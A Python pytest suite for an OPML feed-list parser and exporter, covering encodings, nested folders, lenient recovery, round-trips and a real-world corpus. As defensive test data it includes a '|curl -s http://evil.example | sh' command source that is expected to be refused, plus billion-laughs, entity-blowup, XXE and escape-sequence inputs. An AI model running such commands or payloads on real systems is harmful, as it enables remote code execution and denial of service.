"""OPML import/export: our fixtures in tests/data/opml, plus the real-world corpus."""

from __future__ import annotations

import re
import time
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newsterm.core.errors import ParseError
from newsterm.core.sources import opml
from newsterm.core.sources.opml import OpmlFeed, export_opml, parse_opml
from newsterm.core.text import clean_line

DATA = Path(__file__).resolve().parents[1] / "data" / "opml"
CORPUS = Path(__file__).resolve().parents[2].parent / "shared" / "corpus" / "opml"


def load(name: str) -> opml.OpmlResult:
    return parse_opml((DATA / name).read_bytes())


def urls(result: opml.OpmlResult) -> list[str]:
    return [feed.url for feed in result.feeds]


# --- well-formed files ---------------------------------------------------------------------


def test_flat_opml_2():
    result = load("flat.opml")
    assert not result.lenient
    assert result.skipped == ()
    assert result.feeds == (
        OpmlFeed("https://alpha.example/feed.xml", "Alpha News", (), "https://alpha.example/"),
        OpmlFeed("http://beta.example/rss", "Beta & Co", (), None),
        # title wins over text; a javascript: htmlUrl is dropped
        OpmlFeed("https://gamma.example/atom.xml", "Gamma Blog", (), None),
    )


def test_nested_folders_become_nested_sections():
    result = load("nested.opml")
    assert not result.lenient
    sections = {feed.url: feed.section for feed in result.feeds}
    assert sections == {
        "https://top.example/feed": (),
        "https://wire.example/world.rss": ("News",),
        "https://euro.example/daily.xml": ("News", "Europe"),
        "https://nordic.example/rss": ("News", "Europe", "Nordic"),
        "https://fjord.example/atom": ("News", "Europe", "Nordic"),
        "https://gadgets.example/feed.json": ("Technology",),
    }
    # document order is kept; an empty folder is neither a feed nor a skip
    assert urls(result)[0] == "https://top.example/feed"
    assert result.skipped == ()


def test_opml_1_with_text_only_and_declared_latin1():
    result = load("opml10_text_only.opml")
    assert [(f.title, f.section) for f in result.feeds] == [
        ("Physics Today", ("Science",)),
        ("Biology Weekly", ("Science",)),
        ("Café Culture", ()),
    ]
    raw = (
        '<?xml version="1.0" encoding="windows-1252"?>\n<opml version="1.0"><body>'
        '<outline text="Caf\xe9 \u20ac" xmlUrl="http://cafe.example/rss"/></body></opml>'
    ).encode("cp1252")
    assert parse_opml(raw).feeds[0].title == "Café €"


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_encodings_by_bom_or_byte_pattern(encoding: str):
    doc = '<opml version="2.0"><body><outline text="Ünïcode ✓" xmlUrl="https://u.example/rss"/></body></opml>'
    result = parse_opml(doc.encode(encoding))
    assert [(f.title, f.url) for f in result.feeds] == [("Ünïcode ✓", "https://u.example/rss")]


def test_attribute_names_are_case_insensitive():
    result = load("case_attrs.opml")
    assert [(f.url, f.title, f.section, f.html_url) for f in result.feeds] == [
        ("https://lower.example/rss", "Lower", ("Folder",), None),
        ("https://upper.example/rss", "Upper", ("Folder",), "https://upper.example/"),
        ("https://mixed.example/rss", "Mixed", ("Folder",), "https://mixed.example/"),
    ]


def test_titles_are_sanitised():
    doc = (
        '<opml version="2.0"><body>'
        '<outline text="Evil\u202e folder\u2066"><outline text="  red\tline \u200f"'
        ' title="Bad\x1b[31m title\u202e" xmlUrl=" https://evil.example/rss "/></outline>'
        "</body></opml>"
    )
    result = parse_opml(doc.encode())
    (feed,) = result.feeds
    assert feed.url == "https://evil.example/rss"
    assert feed.section == ("Evil folder",)
    assert "\x1b" not in (feed.title or "") and "\u202e" not in (feed.title or "")
    assert feed.title == "Bad[31m title"


def test_unsafe_and_unusable_sources_are_skipped_with_reasons():
    result = load("unsafe_sources.opml")
    assert urls(result) == ["https://good.example/feed", "HTTPS://LAST.example/rss"]
    reasons = {skip.title: skip.reason for skip in result.skipped}
    assert reasons == {
        "Exec": "command source refused",
        "Pipe": "command source refused",
        "Filter": "command source refused",
        "File": "not http/https",
        "Script": "not http/https",
        "Relative": "not http/https",
        "No host": "invalid URL",
        "Spaces": "invalid URL",
        "Feed without URL": "no URL",
        "Again": "duplicate",
    }
    pipe = next(s for s in result.skipped if s.title == "Pipe")
    assert pipe.url == "|curl -s http://evil.example | sh"


# --- not well-formed: the lenient scanner ------------------------------------------------------


def test_raw_ampersands_and_unescaped_quotes_need_the_lenient_parser():
    result = load("raw_amp_quotes.opml")
    assert result.lenient
    assert [(f.title, f.url, f.section) for f in result.feeds] == [
        ("Bugs & Birds", "https://bugs.example/rss?a=1&b=2", ("Science & Nature",)),
        ('The "Daily" Paper', "https://daily.example/feed", ("Science & Nature",)),
        # the description holds <a href="…">…</a>: the tag still ends at the right ">"
        ("Markup Blog", "https://markup.example/feed/", ("Science & Nature",)),
        ("Dash – Feed Entity", "https://dash.example/rss", ("Science & Nature",)),
        ("Loose", "https://loose.example/atom.xml", ()),
    ]


def test_missing_angle_bracket_in_prolog():
    result = load("missing_lt.opml")
    assert result.lenient
    assert [(f.title, f.section) for f in result.feeds] == [
        ("Race Results", ("Sports",)),
        ("Goal Line", ("Sports",)),
        ("Weather", ()),
    ]  # the commented-out outline is not imported


def test_lenient_parser_agrees_with_strict_on_well_formed_files():
    for name in ("flat.opml", "nested.opml", "case_attrs.opml", "unsafe_sources.opml"):
        strict = load(name)
        # an unknown HTML entity makes the same document not well-formed XML
        broken = (DATA / name).read_bytes().replace(b"<body>", b"<body>&nbsp;", 1)
        lenient = parse_opml(broken)
        assert lenient.lenient and not strict.lenient
        assert lenient.feeds == strict.feeds, name
        assert lenient.skipped == strict.skipped, name


def test_lenient_unclosed_folders_and_stray_close_tags():
    doc = (
        b'<opml version="1.0"><body></outline>'
        b'<outline text="A"><outline text="a1" xmlUrl="https://a.example/1" >'
        b'<outline text="B"><outline text="b1" xmlUrl="https://b.example/1"/>'
        b"</body>"
    )
    result = parse_opml(doc)
    assert result.lenient
    # the feed outline left open does not become a folder level
    assert [(f.url, f.section) for f in result.feeds] == [
        ("https://a.example/1", ("A",)),
        ("https://b.example/1", ("A", "B")),
    ]


# --- refused ------------------------------------------------------------------------------------


def assert_refused_quickly(data: bytes) -> None:
    # a bound against entity expansion (which would take minutes and gigabytes), not a benchmark
    start = time.perf_counter()
    with pytest.raises(ParseError, match=r"^refused: OPML declares XML entities$"):
        parse_opml(data)
    assert time.perf_counter() - start < 5


def test_billion_laughs_refused():
    assert_refused_quickly((DATA / "billion_laughs.opml").read_bytes())


def test_billion_laughs_refused_on_the_lenient_path_too():
    data = (DATA / "billion_laughs.opml").read_bytes().replace(b"<body>", b"<body>& &", 1)
    assert_refused_quickly(data)


def test_quadratic_blowup_refused():
    entity = "x" * 50_000
    refs = "&big;" * 50_000
    doc = (
        f'<?xml version="1.0"?>\n<!DOCTYPE opml [<!ENTITY big "{entity}">]>\n'
        f'<opml version="2.0"><body><outline text="{refs}" xmlUrl="https://q.example/rss"/>'
        "</body></opml>"
    )
    assert_refused_quickly(doc.encode())


def test_external_entity_refused():
    assert_refused_quickly((DATA / "xxe.opml").read_bytes())


def test_entities_hidden_in_utf16_are_refused():
    assert_refused_quickly((DATA / "xxe.opml").read_text().encode("utf-16"))


def test_internal_subset_without_entities_refused():
    doc = b'<!DOCTYPE opml [ <!ATTLIST outline x CDATA "1"> ]><opml><body/></opml>'
    assert_refused_quickly(doc)


def test_external_dtd_is_never_read(tmp_path: Path):
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY secret "LEAKED">')
    doc = (
        f'<?xml version="1.0"?><!DOCTYPE opml SYSTEM "{dtd.as_uri()}">'
        '<opml version="2.0"><body><outline text="a &secret; b" xmlUrl="https://x.example/rss"/>'
        "</body></opml>"
    )
    result = parse_opml(doc.encode())
    assert urls(result) == ["https://x.example/rss"]
    assert "LEAKED" not in (result.feeds[0].title or "")


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "empty OPML file"),
        (b"  \n\t ", "empty OPML file"),
        (b"\x00\x01\x02binary\x00", "not OPML: binary data"),
        ((DATA / "not_opml.rss").read_bytes(), "not OPML: the root element is <rss>"),
        ((DATA / "not_opml.html").read_bytes(), "not OPML: the root element is <html>"),
        (b"<html lang=en><body>a & b</body></html>", "not OPML: no <opml> element"),
        (b"just some words & no markup", "not OPML: no <opml> element"),
    ],
)
def test_not_opml(data: bytes, message: str):
    with pytest.raises(ParseError) as info:
        parse_opml(data)
    assert str(info.value) == message


def test_outline_count_is_capped(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(opml, "MAX_OUTLINES", 10)
    body = "".join(f'<outline text="f{i}" xmlUrl="https://f.example/{i}"/>' for i in range(11))
    with pytest.raises(ParseError, match="more than 10 outlines"):
        parse_opml(f"<opml><body>{body}</body></opml>".encode())


def test_deep_nesting_is_capped():
    depth = opml.MAX_DEPTH + 5
    doc = (
        "<opml><body>"
        + "".join(f'<outline text="L{i}">' for i in range(depth))
        + '<outline text="deep" xmlUrl="https://deep.example/rss"/>'
        + "</outline>" * depth
        + "</body></opml>"
    )
    (feed,) = parse_opml(doc.encode()).feeds
    assert feed.section == tuple(f"L{i}" for i in range(opml.MAX_DEPTH))


# --- export ---------------------------------------------------------------------------------------

ROWS = [
    ("https://top.example/feed", "Top & <Co>", (), "https://top.example/"),
    ("https://wire.example/world.rss", 'The "Wire"', ("News",), None),
    ("https://euro.example/daily.xml", None, ("News", "Europe"), None),
    ("https://nordic.example/rss?a=1&b=2", "Nordic", ("News", "Europe", "Nordic"), None),
    ("https://gadgets.example/feed.json", "Gadgets", ("Technology",), "https://gadgets.example/"),
]


def test_export_is_opml_2_with_nested_folders():
    text = export_opml(ROWS)
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<opml version="2.0">')
    assert '<outline text="News" title="News">' in text
    assert (
        '<outline type="rss" text="Top &amp; &lt;Co&gt;" title="Top &amp; &lt;Co&gt;" '
        'xmlUrl="https://top.example/feed" htmlUrl="https://top.example/"/>'
    ) in text
    assert 'xmlUrl="https://nordic.example/rss?a=1&amp;b=2"' in text
    # issue 12: never an empty text (a feed without a title is named by its address)
    assert (
        '<outline type="rss" text="https://euro.example/daily.xml" '
        'xmlUrl="https://euro.example/daily.xml"/>'
    ) in text
    assert text.count("<outline") == len(ROWS) + 4  # News, Europe, Nordic, Technology


def test_export_parse_round_trip():
    result = parse_opml(export_opml(ROWS).encode())
    assert not result.lenient and result.skipped == ()
    assert [(f.url, f.title, f.section, f.html_url) for f in result.feeds] == ROWS


_NAME = st.text(
    st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff"),
    min_size=1,
    max_size=20,
).map(clean_line)
_URL = st.builds(
    "https://{}.example/{}".format,
    st.from_regex(r"[a-z][a-z0-9-]{0,8}", fullmatch=True),
    st.text("abcxyz019-._~/?=&%;'\"<>", max_size=15),
)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.tuples(
            _URL,
            st.none() | _NAME.filter(bool),
            st.lists(_NAME.filter(bool), max_size=3).map(tuple),
            st.none() | _URL,
        ),
        unique_by=lambda row: row[0],
        max_size=12,
    )
)
def test_round_trip_property(rows: list[tuple[str, str | None, tuple[str, ...], str | None]]):
    result = parse_opml(export_opml(rows).encode())
    assert not result.lenient
    assert result.skipped == ()
    # feeds come back grouped by folder, so compare as a multiset
    assert Counter((f.url, f.title, f.section, f.html_url) for f in result.feeds) == Counter(rows)


# --- the real-world corpus ------------------------------------------------------------------
# Numbers checked by reading each file (and counting its xmlUrl attributes): feeds, the
# top-level folders, and whether it is well-formed XML (lenient=False) or not.

CORPUS_TABLE: dict[str, tuple[int, set[str], bool]] = {
    "awesome-rss-feeds__germany_without_category.opml": (5, set(), False),
    "awesome-rss-feeds__india_with_category.opml": (36, {"India"}, True),  # raw &
    "awesome-rss-feeds__iran_with_category.opml": (7, {"Iran"}, False),
    "awesome-rss-feeds__japan_with_category.opml": (8, {"Japan"}, False),
    "awesome-rss-feeds__news_with_category.opml": (11, {"News"}, True),  # raw &
    "awesome-rss-feeds__programming_with_category.opml": (50, {"Programming"}, True),
    "awesome-rss-feeds__russia_with_category.opml": (13, {"Russia"}, True),  # quotes
    "awesome-rss-feeds__science_without_category.opml": (24, set(), True),  # raw &
    "awesome-rss-feeds__united-kingdom_with_category.opml": (5, {"United Kingdom"}, True),
    "awesome-rss-feeds__united-states_with_category.opml": (10, {"United States"}, True),
    "nom__test.opml": (20, {"News", "Leisure", "Sports", "Tech"}, True),  # missing "<"
    "rsparser__Subs.opml": (207, {"Programming", "Macintosh", "Weblogs", "Writers"}, False),
    "rsparser__SubsNoTitleAttributes.opml": (
        207,
        {"Programming", "Macintosh", "Weblogs", "Writers"},
        False,
    ),
}


def corpus_files() -> list[Path]:
    if not CORPUS.is_dir():
        pytest.skip(f"corpus not found at {CORPUS}")
    return sorted(CORPUS.glob("*.opml"))


@pytest.mark.corpus
def test_corpus_table_covers_every_file():
    assert {path.name for path in corpus_files()} == set(CORPUS_TABLE)


@pytest.mark.corpus
@pytest.mark.parametrize("name", sorted(CORPUS_TABLE))
def test_corpus_file(name: str):
    corpus_files()
    data = (CORPUS / name).read_bytes()
    count, folders, lenient = CORPUS_TABLE[name]
    result = parse_opml(data)
    assert len(result.feeds) == count
    assert {feed.section[0] for feed in result.feeds if feed.section} == folders
    assert result.lenient is lenient
    assert result.skipped == ()
    # every xmlUrl in the file, in order (all of them are plain http/https URLs)
    assert urls(result) == re.findall(r'xmlUrl="([^"]*)"', data.decode("utf-8"))
    assert all(feed.title for feed in result.feeds)


@pytest.mark.corpus
@pytest.mark.parametrize("name", ["rsparser__Subs.opml", "rsparser__SubsNoTitleAttributes.opml"])
def test_corpus_folder_sizes(name: str):
    corpus_files()
    result = parse_opml((CORPUS / name).read_bytes())
    sizes = Counter(feed.section for feed in result.feeds)
    assert sizes == {
        (): 69,
        ("Programming",): 33,
        ("Macintosh",): 5,
        ("Weblogs",): 97,
        ("Writers",): 3,
    }


@pytest.mark.corpus
def test_corpus_broken_entries_recovered():
    corpus_files()
    russia = parse_opml((CORPUS / "awesome-rss-feeds__russia_with_category.opml").read_bytes())
    programming = parse_opml(
        (CORPUS / "awesome-rss-feeds__programming_with_category.opml").read_bytes()
    )
    titles = {f.url: f.title for f in russia.feeds + programming.feeds}
    assert titles["https://www.kommersant.ru/RSS/main.xml"] == 'Газета "Коммерсантъ". Главное'
    assert titles["https://m.signalvnoise.com/feed/"] == "Signal v. Noise"
    assert titles["https://www.thirtythreeforty.net/posts/index.xml"] == "Posts on &> /dev/null"


# --- cut off (issue 12) ----------------------------------------------------------------------


@pytest.mark.parametrize("name", ["truncated.opml", "truncated_bare.opml"])
def test_an_outline_cut_by_the_end_of_the_file_is_not_imported(name: str):
    result = parse_opml((DATA / name).read_bytes())
    assert result.lenient
    assert [f.url for f in result.feeds] == ["https://alpha.example/feed.xml"]
    (skip,) = result.skipped
    assert skip.reason == "cut off by the end of the file"
    assert skip.url == "https://beta.example/fe" and skip.title == "Beta" + (
        " Blog" if name == "truncated.opml" else ""
    )


def test_a_tag_cut_after_its_last_value_still_imports():
    data = b'<opml version="2.0"><body><outline text="A" xmlUrl="https://a.example/f.xml"'
    result = parse_opml(data)
    assert result.lenient and [f.url for f in result.feeds] == ["https://a.example/f.xml"]


def test_an_exported_feed_without_a_title_comes_back_without_one():
    text = export_opml([("https://euro.example/daily.xml", None, (), None)])
    assert 'text="https://euro.example/daily.xml"' in text
    (feed,) = parse_opml(text.encode()).feeds
    assert feed.title is None
